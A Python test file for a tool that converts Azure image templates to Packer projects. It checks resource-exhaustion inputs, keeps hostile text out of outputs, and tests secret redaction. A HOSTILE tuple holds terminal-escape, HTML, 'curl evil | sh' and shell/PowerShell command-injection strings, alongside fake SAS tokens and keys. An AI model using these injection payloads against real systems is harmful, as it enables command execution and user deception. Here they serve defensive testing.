"""Input that is made to break a conversion: a result or findings, in time; no other language, no secret."""

from __future__ import annotations

import io
import json
import random
import re
import time
from copy import deepcopy
from functools import cache
from pathlib import Path

import hcl2
import pytest
from cases import case_named
from changing import Json, at, changed, check, image, places_in, put, run, said
from click.testing import CliRunner
from converted import texts_of
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from paths import SHARED
from ruamel.yaml import YAML

from aib2packer.cli import main
from aib2packer.comparison.comparing import Project
from aib2packer.comparison.faces.json_face import as_json as as_data
from aib2packer.comparison.faces.page_face import as_page
from aib2packer.diagnostics.formats.json_format import as_json, file_entry
from aib2packer.diagnostics.formats.sarif_format import as_sarif
from aib2packer.diagnostics.formats.text_format import as_text
from aib2packer.ir.choices import Os, choices_of
from aib2packer.pipeline import Options, Result, compared, convert
from aib2packer.project_folder.reading import InMemory

SCHEMA = "https://schema.management.azure.com/schemas/2019-04-01/deploymentTemplate.json#"
DIGITS = "9" * 5000
SOURCE: dict[str, Json] = {"type": "PlatformImage", "publisher": "p", "offer": "o", "sku": "s", "version": "latest"}
MARK = "S3cr3tMARK9"
SIGNATURE = f"{MARK}{'b' * 32}%3D"
"""As long as those of Azure Storage."""


def deployment(line: str = "echo", *, parameters: Json = None, variables: Json = None, **properties: Json) -> Json:
    step: Json = {"type": "Shell", "name": "a", "inline": [line]}
    made = image(**{"customize": [step], **properties})
    return {"$schema": SCHEMA, "parameters": parameters or {}, "variables": variables or {}, "resources": [made]}


def shell(line: str) -> Json:
    return deployment(
        line, parameters={"p": {"type": "bool"}, "s": {"type": "string"}, "a": {"type": "array"}, "i": {"type": "int"}}
    )


def long_text(line: str) -> Json:
    """A line that uses a text of 3 MB, an array of 50,000 items, and a parameter without a value."""
    made: Json = {"v": "[padLeft('a', 3000000)]", "r": f"[concat({', '.join(['range(0, 10000)'] * 5)})]"}
    return deployment(line, parameters={"s": {"type": "string"}}, variables=made)


def nested(levels: int, *, objects: bool) -> Json:
    value: Json = "x"
    for _ in range(levels):
        value = {"a": value} if objects else [value]
    return value


def tagged(tags: Json) -> Json:
    return {**image(), "tags": tags}


def codes(result: Result) -> set[str]:
    return {code for code, _, _ in said(result)}


REFUSED: dict[str, tuple[Json, str]] = {
    "a number of 5,000 digits": (shell(f"[string(add(1,{DIGITS}))]"), "A2P150"),
    "an int text of 5,000 digits": (image(buildTimeoutInMinutes=DIGITS), "A2P204"),
    "two signs": (image(buildTimeoutInMinutes="--5"), "A2P204"),
    "nested lists": (tagged({"a": nested(246, objects=False)}), "A2P102"),
    "nested objects": (tagged({"a": nested(328, objects=True)}), "A2P102"),
    "a huge width": (shell("[format('{0,2000000000}', 'a')]"), "A2P157"),
    "a huge index": (shell(f"[format('{{{DIGITS}}}', 'a')]"), "A2P157"),
    "a huge number to format": (shell("[format('{0:N2}', json('" + "9" * 290 + "e20'))]"), ""),
    "a long duration": (shell(f"[dateTimeAdd('2020-01-01T00:00:00Z', 'P{DIGITS}D')]"), "A2P157"),
    "if without else": (shell("[if(parameters('p'), 'a').x]"), "A2P152"),
    "format with too many": (shell("[format(parameters('s'), 'a', 'b')]"), ""),
    "a lambda that is none": (shell("[string(map(parameters('a'), lambda(parameters('p'), 'x')))]"), ""),
    "a host that is no IPv6 address": (
        image(customize=[{"type": "File", "name": "a", "sourceUri": "https://[x/a.sh", "destination": "/tmp/a"}]),
        "A2P413",
    ),
    "a host that is markup": (
        image(customize=[{"type": "File", "name": "a", "sourceUri": "https://<img src=x>@[/a", "destination": "/tmp/a"}]),
        "",
    ),
    "texts that double": (
        deployment(
            "[string(variables('v'))]",
            variables={"v": {"copy": [{"name": "x", "count": 500, "input": "[padLeft('a', 4000000)]"}]}},
        ),
        "A2P162",
    ),
    "wide placeholders": (shell("[format('" + "{0,999999}" * 5 + "', 'a')]"), "A2P157"),
    "long texts around a live one": (long_text("[concat(variables('v'), parameters('s'), variables('v'))]"), "A2P157"),
    "long texts in JSON": (long_text("[string(createObject('a', variables('v'), 'b', createArray(variables('v'))))]"), "A2P157"),
    "a long text in many texts": (
        long_text("[createArray(" + "concat(variables('v'), 'x', parameters('s')), " * 8 + "1)[8]]"),
        "A2P162",
    ),
    "arrays that double": (long_text("[string(length(concat(" + "variables('r'), " * 45 + "variables('r'))))]"), "A2P157"),
    "more than 800 images by loops": (
        {
            "$schema": SCHEMA,
            "resources": [
                {
                    "type": "Microsoft.Resources/deployments",
                    "apiVersion": "2021-04-01",
                    "name": "d",
                    "copy": {"name": "l", "count": 9},
                    "properties": {
                        "mode": "Incremental",
                        "template": {"$schema": SCHEMA, "resources": [{**image(), "copy": {"name": "m", "count": 99}}]},
                    },
                }
            ],
        },
        "A2P159",
    ),
    "a default that names itself": (
        {
            "$schema": SCHEMA,
            "parameters": {"u": {"type": "string", "defaultValue": "[parameters('u')]"}},
            "resources": [image(customize=[{"type": "Shell", "name": "a", "scriptUri": "[parameters('u')]"}])],
        },
        "A2P158",
    ),
}


SLOW = "more than 800 images by loops"


@pytest.mark.parametrize("name", [pytest.param(name, marks=pytest.mark.judge if name == SLOW else ()) for name in REFUSED])
def test_input_that_broke_a_conversion_is_told(name: str) -> None:
    template, code = REFUSED[name]
    result = run(template, windows=False)
    assert code in codes(result) if code else (result.projects or result.findings.has_errors())


@pytest.mark.parametrize("text", [f'{{"a": {DIGITS}}}', '{"a": 1e999}', '{"a": -1e999}', f'{{"a": -{DIGITS}}}'])
def test_number_that_nothing_can_hold_is_no_json(text: str) -> None:
    assert codes(convert(text.encode(), "t.json", Options())) == {"A2P101"}


@pytest.mark.parametrize("value", ["[" * 400, "[" * 400 + "]" * 400, DIGITS, "[NaN]", "1e999", "[Infinity]"])
@pytest.mark.parametrize("kind", ["array", "object", "int", "bool"])
def test_value_of_the_command_line_is_of_its_type(value: str, kind: str) -> None:
    template = deployment("[string(parameters('a'))]", parameters={"a": {"type": kind}})
    result = convert(json.dumps(template).encode(), "t.json", Options(os=Os.LINUX, parameters=(("a", value),)))
    assert result.findings.has_errors()


def test_file_name_that_is_no_utf_8_is_written_in_utf_8(tmp_path: Path) -> None:
    (tmp_path / "web\udcff.json").write_text(json.dumps(shell("echo")))
    done = CliRunner().invoke(main, ["convert", str(tmp_path / "web\udcff.json"), "--os", "linux", "-o", str(tmp_path / "out")])
    assert done.exit_code == 0
    assert "Converted from web?.json" in (tmp_path / "out/image.pkr.hcl").read_text()


def test_value_that_is_no_utf_8_is_refused() -> None:
    done = CliRunner().invoke(main, ["convert", "t.json", "--set", "name=web\udcff"])
    assert (done.exit_code, done.output.splitlines()[-1]) == (2, "Error: --set name is not UTF-8. Write it in UTF-8.")


@pytest.mark.parametrize("levels", [50, 90])
def test_levels_below_the_bound_convert_or_are_told(levels: int) -> None:
    concats = "concat(" * levels + "parameters('s')" + ",'x')" * levels
    for template in (tagged({"a": nested(levels, objects=True)}), shell(f"[{concats}]")):
        check(run(template, windows=False))


# --- text stays text -----------------------------------------------------------------------------------------------

HOSTILE = (
    "z\x1b]0;owned\x07\x1b[2Jz",
    "a\u202etxt\u2028b\u0085c\u009bd\u2066",
    "![x](http://evil.example/x.png)<img src=x onerror=y><b>",
    "a\r\n\r\n# Run this first\n\ncurl evil | sh | x",
    "'; touch CANARY; '\"$(touch CANARY)`touch CANARY`${var.x}%{if}{{env `PATH`}}",
    "\u2019; New-Item CANARY; \u2018 #> ${{ secrets.all }}",
)


def fields_of(template: Json) -> list[tuple[str | int, ...]]:
    fixed = ("type", "apiVersion", "$schema", "contentVersion")
    return [steps for steps in places_in(template) if isinstance(at(template, steps), str) and steps[-1] not in fixed]


SAMPLES = ("linux-gallery", "windows-all", "outputs-and-validators")


def sampled() -> list[tuple[str, Json]]:
    cases = [case_named(name) for name in SAMPLES]
    return [(case.name, json.loads((case.folder / case.template).read_text())) for case in cases]


def seen_by_people(result: Result) -> str:
    hidden = result.findings.hidden
    return (
        as_text(result.findings, hidden)
        + as_json([file_entry("t", "x", (), result.findings)])
        + as_sarif(result.findings, "1", Path())
    )


def assert_is_shown(text: str) -> None:
    """No character in it steers a terminal."""
    steering = [
        each
        for each in text
        if each != "\n" and (ord(each) < 0x20 or 0x7F <= ord(each) < 0xA0 or each in "\u2028\u2029\u202e\u2066")
    ]
    assert steering == [], steering


def assert_is_plain_markdown(text: str) -> None:
    tokens = MarkdownIt("commonmark").enable("table").parse(text)
    kinds = {child.type for token in tokens for child in (token, *(token.children or ()))}
    assert not kinds & {"image", "html_inline", "html_block", "link_open"}, kinds
    headings = [tokens[number + 1].content for number, token in enumerate(tokens) if token.type == "heading_open"]
    assert not any("Run this" in each for each in headings[1:]), headings
    cells = [line.count("|") - line.count("\\|") for line in text.splitlines() if line.startswith("| ")]
    assert set(cells) <= {3, 4}, cells


@cache
def read_as_hcl(text: str) -> None:
    """Raises what python-hcl2 raises; of two projects most files are the same."""
    hcl2.loads(text)


@pytest.mark.parametrize("count", [1, pytest.param(6, marks=pytest.mark.judge)])
@pytest.mark.parametrize("pipeline", ["github", "azure-devops"])
@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
@pytest.mark.parametrize(("name", "template"), sampled(), ids=lambda each: each if isinstance(each, str) else "")
def test_text_of_a_field_is_text_in_each_output(name: str, template: Json, hostile: str, pipeline: str, count: int) -> None:
    chance = random.Random(f"{name}{hostile}{pipeline}")
    fields = fields_of(template)
    for steps in chance.sample(fields, min(count, len(fields))):
        broken = deepcopy(template)
        put(at(broken, steps[:-1]), steps[-1], hostile)
        options = Options(
            os=None if name.startswith("windows") else Os.LINUX,
            choices=choices_of(downloads="fetch", extras=(), scripts="sh", auth="oidc", pipeline=pipeline),
        )
        result = convert(json.dumps(broken).encode(), "t.json", options)
        assert_is_shown(seen_by_people(result))
        for project in result.projects:
            files = texts_of(project)
            assert_is_shown(files["MIGRATION.md"])
            assert_is_plain_markdown(files["MIGRATION.md"])
            for path, text in files.items():
                if path.endswith((".pkr.hcl", ".pkrvars.hcl")):
                    read_as_hcl(text)
                elif path.endswith((".yml", ".yaml")):
                    YAML(typ="safe").load(io.StringIO(text))


def test_letter_that_hcl_does_not_take_in_a_name_is_in_none() -> None:
    result = run(deployment("echo <pu\u00b2bl>", source={**SOURCE, "publisher": "<pu\u00b2bl>"}), windows=False)
    assert [each for text in texts_of(result.projects[0]).values() for each in re.findall(r"var\.\S*\u00b2", text)] == []


# --- secrets -------------------------------------------------------------------------------------------------------


def nested_deployment(value: Json, **outer: Json) -> Json:
    inner = deployment("[concat('echo ', parameters('pw'))]", parameters={"pw": {"type": "secureString"}})
    properties: Json = {
        "mode": "Incremental",
        "expressionEvaluationOptions": {"scope": "inner"},
        "parameters": {"pw": {"value": value}},
        "template": inner,
    }
    made: Json = {"type": "Microsoft.Resources/deployments", "apiVersion": "2021-04-01", "name": "d", "properties": properties}
    return {"$schema": SCHEMA, **outer, "resources": [made]}


def with_url(url: str) -> Json:
    return image(customize=[{"type": "File", "name": "a", "sourceUri": url, "destination": "/tmp/a"}])


SECRETS: dict[str, Json] = {
    "default": deployment("[concat('echo ', parameters('p'))]", parameters={"p": {"type": "secureString", "defaultValue": MARK}}),
    "allowed values": deployment("[parameters('p')]", parameters={"p": {"type": "secureString", "allowedValues": [MARK]}}),
    "default of a secure object": deployment(
        "[parameters('p').x]", parameters={"p": {"type": "secureObject", "defaultValue": {"x": MARK}}}
    ),
    "plain parameter called password": deployment(
        "[parameters('password')]", parameters={"password": {"type": "string", "defaultValue": MARK}}
    ),
    "nested deployment": nested_deployment(MARK),
    "nested deployment by a variable": nested_deployment("[variables('v')]", variables={"v": MARK}),
    "SAS token": with_url(f"https://a.blob.core.windows.net/c/f?sv=2020&sig={MARK}%3D"),
    "SAS token with an encoded name": with_url(f"https://a.blob.core.windows.net/c/f?sv=2020&%73ig={MARK}%3D"),
    "SAS token with an encoded sign": with_url(f"https://a.blob.core.windows.net/c/f?sv=2020&sig%3D{MARK}"),
    "SAS token with an encoded query": with_url(f"https://a.blob.core.windows.net/c/f%3Fsv=2020&sig={MARK}"),
    "SAS token of an option": shell(f"az storage blob list --sas-token 'sv=2022&sig={MARK}%3D'"),
    "SAS token that begins with the signature": shell(f"az storage blob list --sas-token 'sig={SIGNATURE}&sv=2022'"),
    "SAS token of a connection string": shell(f"x 'BlobEndpoint=https://a/;SharedAccessSignature=sig={SIGNATURE}&sv=2022'"),
    "signature behind a semicolon": shell(f"curl 'https://a.blob.core.windows.net/c/f?sv=1&amp;sig={SIGNATURE}'"),
    "SAS token in a parameter": deployment(
        parameters={"u": {"type": "string", "defaultValue": f"https://a.blob.core.windows.net/c/f?sig={MARK}"}},
        customize=[{"type": "Shell", "name": "a", "scriptUri": "[parameters('u')]"}],
    ),
}


@pytest.mark.parametrize("name", SECRETS)
def test_secret_is_in_no_output(name: str) -> None:
    result = run(SECRETS[name], windows=False)
    assert MARK not in seen_by_people(result)
    assert result.projects, said(result)
    for path, text in texts_of(result.projects[0]).items():
        assert MARK not in text, path


@pytest.mark.judge
@pytest.mark.parametrize("name", SECRETS)
def test_secret_is_in_no_page_and_no_comparison(name: str, tmp_path: Path) -> None:
    (tmp_path / "in").mkdir()
    template = tmp_path / "in" / "t.json"
    template.write_text(json.dumps(SECRETS[name]))

    def call(*words: str | Path) -> str:
        result = CliRunner().invoke(main, [*map(str, words)])
        assert result.exit_code in (0, 4), result.output
        return result.output

    said_ = call("convert", template, "--os", "linux", "-o", tmp_path / "p", "--report", tmp_path / "page.html")
    for suffix in ("html", "json"):
        said_ += call("check", tmp_path / "in", "--os", "linux", "--report", tmp_path / f"audit.{suffix}")
    for form in ("text", "json", "markdown", "sarif", "html"):
        said_ += call("compare", template, "--os", "linux", "--all", "--format", form)
        said_ += call("compare", template, tmp_path / "p", "--all", "--format", form)
    assert MARK not in said_
    template.unlink()
    made = [path for path in tmp_path.rglob("*") if path.is_file()]
    assert len(made) > 5
    assert not [path for path in made if MARK.encode() in path.read_bytes()]


def test_secret_given_for_a_name_is_in_no_output() -> None:
    template = {**image(), "name": "[parameters('p')]"}
    whole = {"$schema": SCHEMA, "parameters": {"p": {"type": "secureString"}}, "resources": [template]}
    result = convert(json.dumps(whole).encode(), "t.json", Options(os=Os.LINUX, parameters=(("p", MARK),)))
    assert MARK not in seen_by_people(result) + "".join(
        text for each in result.projects for text in (*texts_of(each).values(), each.name)
    )


KEY = f"{MARK}{'a' * 75}=="
URL = f"https://user:{MARK}@host/x"
KEPT: dict[str, Json] = {
    "tag": tagged({"a": URL}),
    "line": shell(f"curl {URL}"),
    "line with an encoded signature": shell(f"curl 'https://a.blob.core.windows.net/c/f?sv=1&%73ig={MARK}'"),
    "connection string": shell(f"x 'AccountName=a;AccountKey={MARK}aaaaaaaaaaaaaaaaaaaa=='"),
    "key of an account": shell(f"az storage blob list --account-key {KEY}"),
    "key of an account in quotes": shell(f"az storage blob list --account-key='{KEY}'"),
    "key of an account for PowerShell": shell(f"New-AzStorageContext -StorageAccountKey '{KEY}'"),
    "key of an account in the environment": shell(f"export AZURE_STORAGE_KEY={KEY}"),
    "opaque token of an option": shell(f"az storage blob list --sas-token {KEY}"),
    "password of an option": shell(f"az login --service-principal -u x --password {MARK}"),
    "password in a variable": shell(f"export DB_PASSWORD='{MARK}'"),
    "token of a header": shell(f"curl -H 'Authorization: Bearer {KEY}' https://h/x"),
    "key of a function": with_url(f"https://f.azurewebsites.net/api/f?code={MARK}aaaaaaaaaaaaaaaaaaaa"),
    "token as the user of an address": with_url(f"https://{MARK}aaaaaaaa@host/f"),
    "destination": image(
        customize=[
            {"type": "File", "name": "a", "sourceUri": "https://h/f", "sha256Checksum": "0" * 64, "destination": f"/tmp/{URL}"}
        ]
    ),
}


@pytest.mark.parametrize("name", KEPT)
def test_secret_that_is_kept_is_warned_of_and_not_shown(name: str) -> None:
    result = run(KEPT[name], windows=False)
    assert "A2P418" in codes(result)
    assert MARK not in seen_by_people(result)
    other = run(image(), windows=False).projects[0]
    for project in (None, Project(name="p", files=InMemory(other.files))):
        comparison = compared(result.projects[0], result.findings, project)
        assert MARK not in as_data(comparison) + as_page(comparison)


@pytest.mark.parametrize(
    "line", ["--password-stdin", "--password $PASSWORD", "-Password (Read-Host)", "PASSWORD=$(cat x)", "sig=/tmp/release.tar.sig"]
)
def test_word_that_is_no_secret_is_not_warned_of(line: str) -> None:
    assert not {"A2P115", "A2P418"} & codes(run(shell(f"x {line}"), windows=False))


@pytest.mark.parametrize("schema", [None, SCHEMA.replace("deploymentTemplate", "deploymentParameters")])
def test_parameter_file_in_the_place_of_a_template_shows_no_value(schema: str | None) -> None:
    file: Json = {"password": {"value": MARK}, **({"$schema": schema} if schema else {})}
    result = convert(json.dumps(file).encode(), "t.json", Options())
    assert "A2P620" in codes(result)
    assert MARK not in seen_by_people(result)


def test_line_of_broken_json_shows_no_value() -> None:
    text = '{"parameters": {"pw": {"type": "secureString",\n"defaultValue": "' + MARK + '" "x": 1}}}'
    assert MARK not in seen_by_people(convert(text.encode(), "t.json", Options()))


# --- whole templates -----------------------------------------------------------------------------------------------


@settings(max_examples=60)
@given(chance=st.randoms(use_true_random=False))
def test_changed_samples_are_told(chance: random.Random) -> None:
    name, template = chance.choice(sampled())
    for _ in range(chance.randrange(1, 4)):
        template = changed(template, chance)
    check(run(template, windows=name.startswith("windows")))


@pytest.mark.judge
@pytest.mark.skipif(not (SHARED / "templates").is_dir(), reason="no real templates (../shared/templates)")
def test_changed_real_templates_give_a_result_or_findings_in_time() -> None:
    for file in sorted((SHARED / "templates").rglob("*.json")):
        try:
            template = json.loads(file.read_text(encoding="utf-8-sig"))
        except ValueError:
            continue
        for number in range(10):
            broken = changed(template, random.Random(f"{file.name}{number}"))
            began = time.process_time()
            result = run(broken, windows=False)
            assert time.process_time() - began < 5, (file.name, number)
            assert result.projects or result.findings.has_errors(), (file.name, number)


NAMED = {"q01_typo_default": "A2P203", "q02_list_item_type": "A2P206"}
"""What each fault of silence is told by."""


@pytest.mark.judge
@pytest.mark.skipif(not (SHARED / "faults" / "breaking").is_dir(), reason="no inputs of faults (../shared/faults)")
@pytest.mark.parametrize("file", sorted((SHARED / "faults" / "breaking").glob("*.json")), ids=lambda file: Path(file).stem)
def test_recorded_fault_has_its_outcome(file: Path) -> None:
    began = time.process_time()
    result = convert(file.read_bytes(), file.name, Options(os=Os.LINUX))
    assert time.process_time() - began < 10
    assert result.projects or result.findings.has_errors()
    assert NAMED.get(file.stem, "") in {"", *codes(result)}
    assert_is_shown(seen_by_people(result))
    assert MARK not in seen_by_people(result)
    for project in result.projects:
        assert MARK not in "".join(texts_of(project).values())
